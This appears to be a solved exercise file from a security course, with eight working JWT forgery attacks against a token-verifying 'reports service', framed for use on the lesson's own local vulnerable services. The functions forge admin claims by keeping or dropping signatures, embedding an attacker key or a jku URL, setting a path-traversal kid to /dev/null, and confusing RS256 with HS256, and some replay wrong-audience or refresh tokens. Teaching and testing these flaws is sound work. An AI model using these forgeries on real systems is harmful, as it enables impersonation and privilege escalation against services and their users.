"""Eight attacks on how a service checks the tokens of another: your work in this lesson. Each function makes a
token, sends it to the reports service at `report_url`, and returns the evidence: what it sent, what came back.

Run them only against services you run yourself, on 127.0.0.1: the lesson's pair (vulnerable_issuer.py and
vulnerable_reports.py) and the course's own (lesson 10). Sending them to anyone else's server is an attack on it,
and in most countries a crime.

The tests run every attack against both: it must succeed against the vulnerable pair (that is your exercise) and
fail against lesson 10 (that is the course's claim). The helpers at the top are done; the README says which
mistake each attack uses and which line of lesson 10 stops it.
"""
import base64
import functools
import hashlib
import hmac
import json
import threading
from dataclasses import dataclass

import requests
from cryptography.hazmat.primitives import hashes, serialization
from cryptography.hazmat.primitives.asymmetric import padding, rsa
from jwt.algorithms import RSAAlgorithm
from jwt.api_jwk import PyJWK
from werkzeug.serving import WSGIRequestHandler, make_server

TIMEOUT = 10  # seconds to wait for any answer
KEYS_PATH = "/.well-known/jwks.json"  # where an issuer publishes its public keys
YOUR_KID = "mallory-key"  # the id you give your own key pair


@dataclass
class Account:
    """An account of the attacker's own at the issuer: an ordinary user, as anyone can have."""

    username: str
    password: str


# --- Helpers (done) --------------------------------------------------------------------------------------------

def log_in(issuer_url, account):
    """Log in at the issuer; its answer: {"access_token": ..., "refresh_token": ...}."""
    answer = requests.post(f"{issuer_url}/login", json={"username": account.username, "password": account.password},
                           timeout=TIMEOUT)
    answer.raise_for_status()
    return answer.json()


def encoded(part):
    """A token part from a dict: its JSON, in base64url without padding."""
    return base64.urlsafe_b64encode(json.dumps(part).encode()).rstrip(b"=").decode()


def decoded(part):
    """The dict a token part holds (its header or its claims). No key needed: a JWT is signed, not encrypted."""
    return json.loads(base64.urlsafe_b64decode(part + "=" * (-len(part) % 4)))


def impersonating(claims, user_id):
    """A copy of `claims` that says it is user `user_id`, an admin: what every forged token here claims."""
    return {**claims, "sub": str(user_id), "role": "admin"}


def send(report_url, token):
    """GET the report with `token`; the evidence: {"token": token, "status": ..., "answer": the body}."""
    answer = requests.get(report_url, headers={"Authorization": f"Bearer {token}"}, timeout=TIMEOUT)
    try:
        body = answer.json()
    except ValueError:
        body = answer.text
    return {"token": token, "status": answer.status_code, "answer": body}


def hs256_token(header, claims, secret):
    """A token signed with HS256: an HMAC-SHA256 of "header.claims" with `secret` (bytes). Done by hand: PyJWT
    refuses short secrets and public keys as HMAC secrets, which is exactly what two attacks need."""
    signing_input = f"{encoded(header)}.{encoded(claims)}"
    digest = hmac.new(secret, signing_input.encode(), hashlib.sha256).digest()
    return f"{signing_input}.{base64.urlsafe_b64encode(digest).rstrip(b'=').decode()}"


def rs256_token(header, claims, private_key):
    """A token signed with RS256 (RSA, PKCS #1 v1.5, SHA-256) with `private_key`."""
    signing_input = f"{encoded(header)}.{encoded(claims)}"
    signature = private_key.sign(signing_input.encode(), padding.PKCS1v15(), hashes.SHA256())
    return f"{signing_input}.{base64.urlsafe_b64encode(signature).rstrip(b'=').decode()}"


@functools.cache  # one key pair per run: making one takes a moment
def your_key():
    """Your own RSA key pair (its private half): anyone can make one."""
    return rsa.generate_private_key(public_exponent=65537, key_size=2048)


def your_jwk():
    """The public half of your key, as a JWK named YOUR_KID: what a key set lists."""
    return {**RSAAlgorithm.to_jwk(your_key().public_key(), as_dict=True), "kid": YOUR_KID, "use": "sig",
            "alg": "RS256"}


def public_key_texts(jwk):
    """The texts a verifier may hold a public key `jwk` as (PEM, in both formats, with and without its last line
    break), as bytes: the candidates for an HMAC secret."""
    key = PyJWK(jwk).key
    formats = [serialization.PublicFormat.SubjectPublicKeyInfo]
    if jwk.get("kty") == "RSA":
        formats.append(serialization.PublicFormat.PKCS1)  # "BEGIN RSA PUBLIC KEY", for RSA keys only
    texts = [key.public_bytes(serialization.Encoding.PEM, public_format) for public_format in formats]
    return texts + [text.rstrip(b"\n") for text in texts]


class QuietHandler(WSGIRequestHandler):
    """Werkzeug's request handler without its log line per request (AttackerSite keeps its own list)."""

    def log_request(self, *args, **kwargs):
        pass


class AttackerSite:
    """A web server of your own on 127.0.0.1 that serves one JSON document (a key set) at /jwks.json, and notes
    every request it gets. Use it in a `with` block: it stops at the end.

        with AttackerSite({"keys": [...]}) as site:
            site.url()       # http://127.0.0.1:<port>/jwks.json
        site.requests        # ["GET /jwks.json from 127.0.0.1", ...]
    """

    def __init__(self, document):
        self.document = json.dumps(document).encode()
        self.requests = []
        self._server = None

    def __enter__(self):
        self._server = make_server("127.0.0.1", 0, self._answer, threaded=True, request_handler=QuietHandler)
        threading.Thread(target=self._server.serve_forever, kwargs={"poll_interval": 0.05}, daemon=True).start()
        return self

    def __exit__(self, *exception):
        self._server.shutdown()
        self._server.server_close()

    def url(self):
        return f"http://127.0.0.1:{self._server.server_port}/jwks.json"

    def _answer(self, environ, start_response):  # a WSGI app of one document
        self.requests.append(f"{environ['REQUEST_METHOD']} {environ['PATH_INFO']} from {environ['REMOTE_ADDR']}")
        start_response("200 OK", [("Content-Type", "application/json")])
        return [self.document]


# --- 1. A signature nobody checks ------------------------------------------------------------------------------

def keep_any_signature(issuer_url, report_url, attacker, user_id):
    """Make your own access token say it is user `user_id`, an admin; keep its header and its signature, and use it.

    Returns send()'s evidence.
    """
    # TODO 1: split your access token in three; new claims (impersonating); the same header and signature
    header_part, claims_part, signature = log_in(issuer_url, attacker)["access_token"].split(".")
    claims = impersonating(decoded(claims_part), user_id)
    return send(report_url, f"{header_part}.{encoded(claims)}.{signature}")
    # END TODO 1


# --- 2. An empty signature -------------------------------------------------------------------------------------

def drop_the_signature(issuer_url, report_url, attacker, user_id):
    """The same forged claims, the same header, and nothing after the second dot.

    Returns send()'s evidence.
    """
    # TODO 2: like TODO 1, with an empty signature: "header.claims."
    header_part, claims_part, _ = log_in(issuer_url, attacker)["access_token"].split(".")
    claims = impersonating(decoded(claims_part), user_id)
    return send(report_url, f"{header_part}.{encoded(claims)}.")
    # END TODO 2


# --- 3. A key in the token's header ----------------------------------------------------------------------------

def embed_your_key(issuer_url, report_url, attacker, user_id):
    """Sign the forged claims with your own key, and put its public half in the token's header (jwk).

    Returns send()'s evidence.
    """
    # TODO 3: header {"alg": "RS256", "typ": "JWT", "kid": YOUR_KID, "jwk": your_jwk()}, signed with your_key()
    claims = impersonating(decoded(log_in(issuer_url, attacker)["access_token"].split(".")[1]), user_id)
    header = {"alg": "RS256", "typ": "JWT", "kid": YOUR_KID, "jwk": your_jwk()}
    return send(report_url, rs256_token(header, claims, your_key()))
    # END TODO 3


# --- 4. A key set at your address ------------------------------------------------------------------------------

def point_to_your_key_set(issuer_url, report_url, attacker, user_id):
    """Serve a key set of your own (AttackerSite), sign the forged claims with your key, and name your key set's
    address in the token's header (jku).

    Returns send()'s evidence, plus "jku": the address named, and "fetched": the requests your site got.
    """
    # TODO 4: inside `with AttackerSite({"keys": [your_jwk()]}) as site:`, header with "kid" and "jku": site.url()
    claims = impersonating(decoded(log_in(issuer_url, attacker)["access_token"].split(".")[1]), user_id)
    with AttackerSite({"keys": [your_jwk()]}) as site:
        header = {"alg": "RS256", "typ": "JWT", "kid": YOUR_KID, "jku": site.url()}
        evidence = send(report_url, rs256_token(header, claims, your_key()))
    return {**evidence, "jku": site.url(), "fetched": site.requests}
    # END TODO 4


# --- 5. A kid that names a file --------------------------------------------------------------------------------

def kid_to_a_known_file(issuer_url, report_url, attacker, user_id):
    """Name /dev/null as the key (kid: "../" many times, then "dev/null"), whose content is empty, and sign the
    forged claims with HS256 and that empty secret.

    Returns send()'s evidence.
    """
    # TODO 5: header {"alg": "HS256", "typ": "JWT", "kid": "../" * 20 + "dev/null"}, signed with hs256_token and b""
    claims = impersonating(decoded(log_in(issuer_url, attacker)["access_token"].split(".")[1]), user_id)
    header = {"alg": "HS256", "typ": "JWT", "kid": "../" * 20 + "dev/null"}
    return send(report_url, hs256_token(header, claims, b""))
    # END TODO 5


# --- 6. The public key as an HMAC secret -----------------------------------------------------------------------

def sign_with_the_public_key(issuer_url, report_url, attacker, user_id):
    """Fetch the issuer's public key (its JWKS, at issuer_url + KEYS_PATH), the one your token's kid names, and sign
    the forged claims with HS256 using the key's text as the secret: try each of public_key_texts(), and stop at
    the first the service accepts.

    Returns send()'s evidence for the last text tried, plus "tried": how many texts were tried.
    """
    # TODO 6: your token's kid -> its JWK in the issuer's key set; header {"alg": "HS256", "typ": "JWT", "kid": kid}
    header_part, claims_part, _ = log_in(issuer_url, attacker)["access_token"].split(".")
    kid = decoded(header_part).get("kid")
    key_set = requests.get(f"{issuer_url}{KEYS_PATH}", timeout=TIMEOUT).json()
    jwk = next(key for key in key_set["keys"] if key.get("kid") == kid)
    header, claims = {"alg": "HS256", "typ": "JWT", "kid": kid}, impersonating(decoded(claims_part), user_id)
    tried = 0
    for secret in public_key_texts(jwk):
        tried += 1
        evidence = send(report_url, hs256_token(header, claims, secret))
        if evidence["status"] == 200:
            break
    return {**evidence, "tried": tried}
    # END TODO 6


# --- 7. A token meant for another service ----------------------------------------------------------------------

def use_a_token_meant_for_another_service(report_url, token):
    """`token` is one the issuer made for another service (your quiz, where the victim logged in with their account
    at the issuer): send it to the reports service as it is.

    Returns send()'s evidence, plus "audience": who the token says it is for (its aud claim).
    """
    # TODO 7: send the token unchanged; read its "aud" from its claims
    return {**send(report_url, token), "audience": decoded(token.split(".")[1]).get("aud")}
    # END TODO 7


# --- 8. A refresh token where an access token belongs ----------------------------------------------------------

def refresh_token_as_access_token(issuer_url, report_url, attacker):
    """Log in, and send your refresh token (it lives for days, an access token for minutes) to the reports service.

    Returns send()'s evidence.
    """
    # TODO 8: log_in(...)["refresh_token"], sent as if it were an access token
    return send(report_url, log_in(issuer_url, attacker)["refresh_token"])
    # END TODO 8
